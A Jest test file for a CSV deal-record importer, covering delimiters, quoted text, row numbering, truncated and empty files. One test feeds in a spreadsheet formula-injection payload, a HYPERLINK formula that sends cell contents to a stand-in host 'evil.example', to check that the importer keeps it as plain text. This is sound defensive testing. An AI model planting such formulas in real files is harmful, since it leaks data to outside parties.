import { describe, expect, test } from '@jest/globals';
import type { DealRecord } from '../../../platform/records/records.ts';
import { csv, dealCsv, DEAL_HEADER, readFile, recordsOf } from './support/read-file.ts';

async function dealsOf(content: string): Promise<DealRecord[]> {
  return recordsOf<DealRecord>('dell', 'DEAL', content);
}

describe('a CSV file', () => {
  test.each([
    [',', 'comma'],
    [';', 'semicolon'],
    ['\t', 'tab'],
    ['|', 'bar'],
  ])('may be separated by %j', async (delimiter) => {
    const content = csv(...dealCsv('D-1,Approved,Acme,100,EUR,2026-03-31').trim().split('\r\n')).replaceAll(
      ',',
      delimiter,
    );
    const [deal] = await dealsOf(content);
    expect(deal).toMatchObject({ remoteId: 'D-1', closeOn: '2026-03-31', value: { amount: '100', currency: 'EUR' } });
  });

  test('is not misled by signs that stand in its header texts', async () => {
    const [deal] = await dealsOf(
      csv('"Deal registration ID";Status;End customer;"Notes, remarks, ideas, hints, more"', 'D-1;Approved;Acme;a,b,c'),
    );
    expect(deal).toMatchObject({ remoteId: 'D-1', customer: { name: 'Acme' } });
  });

  test('may declare its separator in a first line, which rows are counted with', async () => {
    const { records, problems } = await readFile(
      'dell',
      'DEAL',
      `sep=;\r\n${csv('Deal ID;Status;Customer', 'D-1;Approved;', 'D-2;Approved;Acme')}`,
    );
    expect(records).toHaveLength(1);
    expect(problems).toMatchObject([{ row: 3, column: 'Customer', code: 'REQUIRED' }]);
  });

  test('may hold quotes, separators and line breaks in quoted texts', async () => {
    const [deal] = await dealsOf(dealCsv('D-1,Approved,"Acme ""North"", Inc.\nSecond line",100,EUR,'));
    expect(deal?.customer.name).toBe('Acme "North", Inc.\nSecond line');
  });

  test('counts rows as a spreadsheet does: quoted line breaks and blank rows included', async () => {
    const { problems } = await readFile('dell', 'DEAL', dealCsv('D-1,Approved,"two\nlines",,,', '', 'D-2,,Acme,,,'));
    expect(problems).toMatchObject([{ row: 4, column: 'Status', code: 'REQUIRED' }]);
  });

  test('may leave out empty cells at the end of a row', async () => {
    const [deal, second] = await dealsOf(dealCsv('D-1,Approved,Acme', 'D-2,Approved,Bolt,5,EUR,2026-01-31'));
    expect(deal).toMatchObject({ value: null, closeOn: null });
    expect(second?.value).toEqual({ amount: '5', currency: 'EUR' });
  });

  test('keeps texts that look like formulas as the texts they are', async () => {
    const formula = '=HYPERLINK("https://evil.example?x="&A1;"Acme")';
    const { records } = await readFile(
      'dell',
      'DEAL',
      dealCsv(`D-1,=1+1,"${formula.replaceAll('"', '""')}",,,`, '+D-2,@SUM(A1),-Acme,,,'),
    );
    expect(records.map(({ record }) => (record as DealRecord).customer.name)).toEqual([formula, '-Acme']);
    expect(records.map(({ record }) => record.remoteId)).toEqual(['D-1', '+D-2']);
    expect(records.map(({ record }) => (record as DealRecord).status)).toEqual(['UNKNOWN', 'UNKNOWN']);
  });

  test('that holds a formula where a number or a date must stand has a problem in that row', async () => {
    const { records, problems } = await readFile(
      'dell',
      'DEAL',
      dealCsv('D-1,Approved,Acme,=100*2,EUR,', 'D-2,Approved,Acme,,,=TODAY()', 'D-3,Approved,Acme,,,'),
    );
    expect(problems).toEqual([
      {
        row: 2,
        column: 'Expected revenue',
        code: 'INVALID',
        message: 'Expected revenue: expected a number such as 1234.50, without a currency sign, came "=100*2".',
      },
      {
        row: 3,
        column: 'Expected close date',
        code: 'INVALID',
        message: 'Expected close date: expected a date of the form YYYY-MM-DD, came "=TODAY()".',
      },
    ]);
    expect(records.map(({ record }) => record.remoteId)).toEqual(['D-3']);
  });
});

describe('a CSV file that was cut short', () => {
  test('inside a quoted text is refused', async () => {
    await expect(readFile('dell', 'DEAL', `${dealCsv('D-1,Approved,Acme,,,')}D-2,Approved,"Bolt and`)).rejects.toThrow(
      /quoted text that begins in row 3 or below does not end/,
    );
  });

  test('inside a row is refused, and not read as a row with empty cells', async () => {
    await expect(readFile('dell', 'DEAL', `${dealCsv('D-1,Approved,Acme,,,')}D-2,Appr`)).rejects.toThrow(
      /last row, 3, has 2 of 6 cells and no line end/,
    );
  });

  test('is not what a missing line end alone says', async () => {
    expect(await dealsOf(dealCsv('D-1,Approved,Acme,,,2026-01-31').trimEnd())).toHaveLength(1);
  });

  test('below its header, so that nothing is left, is refused', async () => {
    await expect(readFile('dell', 'DEAL', csv(DEAL_HEADER))).rejects.toThrow(/no rows below its header/);
    await expect(readFile('dell', 'DEAL', csv(DEAL_HEADER, ',,,,,', ''))).rejects.toThrow(/no rows below its header/);
  });

  test.each(['', '\r\n\r\n', '\uFEFF'])('to %j is refused as empty', async (content) => {
    await expect(readFile('dell', 'DEAL', content)).rejects.toThrow(/The file is empty/);
  });
});
